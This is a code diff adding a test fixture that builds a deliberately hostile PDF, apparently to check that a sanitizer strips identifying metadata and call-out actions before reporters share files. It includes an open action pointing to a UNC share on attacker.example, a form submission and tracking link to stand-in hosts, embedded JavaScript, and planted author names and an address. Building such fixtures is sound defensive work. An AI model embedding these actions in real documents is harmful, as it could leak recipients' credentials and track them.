@@ -50,3 +50,51 @@ def pdf_with_author(javascript: bool = False) -> bytes:
     out = io.BytesIO()
     writer.write(out)
     return out.getvalue()
+
+
+def hostile_pdf() -> bytes:
+    """A PDF with everything that identifies a reporter or makes the reader call out: a JPEG with
+    GPS EXIF, an annotation signed with the author's name, open and page actions (/GoToR to a UNC
+    path, /SubmitForm, /URI, JavaScript), an embedded file, XMP and /PieceInfo."""
+    import pikepdf
+
+    pdf = pikepdf.new()
+    pdf.add_blank_page(page_size=(200, 200))
+    page = pdf.pages[0]
+    jpeg = jpeg_with_gps((32, 24))
+    image = pikepdf.Stream(pdf, jpeg)
+    image.Type, image.Subtype = pikepdf.Name.XObject, pikepdf.Name.Image
+    image.Width, image.Height, image.BitsPerComponent = 32, 24, 8
+    image.ColorSpace, image.Filter = pikepdf.Name.DeviceRGB, pikepdf.Name.DCTDecode
+    image.Metadata = pikepdf.Stream(pdf, b"<x:xmpmeta>Jane Reporter camera roll</x:xmpmeta>")
+    page.obj.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Im0=image))
+    page.obj.Contents = pdf.make_stream(b"q 100 0 0 75 50 60 cm /Im0 Do Q")
+    uri = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://tracker.example/open"))
+    page.obj.Annots = pdf.make_indirect(
+        pikepdf.Array(
+            [
+                pikepdf.Dictionary(
+                    Type=pikepdf.Name.Annot,
+                    Subtype=pikepdf.Name.Text,
+                    Rect=[10, 10, 40, 40],
+                    T=pikepdf.String("Jane Reporter"),
+                    Contents=pikepdf.String("note by Jane Reporter"),
+                ),
+                pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=uri),
+            ]
+        )
+    )
+    submit = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://collect.example/form"))
+    page.obj.AA = pikepdf.Dictionary(O=submit)
+    page.obj.PieceInfo = pikepdf.Dictionary(Illustrator=pikepdf.Dictionary(Private=pikepdf.String("Jane Reporter")))
+    unc = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\attacker.example\\share\\x.pdf"), D=[0])
+    pdf.Root.OpenAction = unc
+    js = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
+    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=[pikepdf.String("a"), js]))
+    pdf.Root.Metadata = pikepdf.Stream(pdf, b"<x:xmpmeta>Jane Reporter</x:xmpmeta>")
+    pdf.Root.PieceInfo = pikepdf.Dictionary(App=pikepdf.Dictionary(Private=pikepdf.String("Jane Reporter")))
+    pdf.docinfo["/Author"] = "Jane Reporter"
+    pdf.attachments["secret.txt"] = pikepdf.AttachedFileSpec(pdf, b"Jane Reporter lives at 1 Main St")
+    out = io.BytesIO()
+    pdf.save(out, compress_streams=False)
+    return out.getvalue()
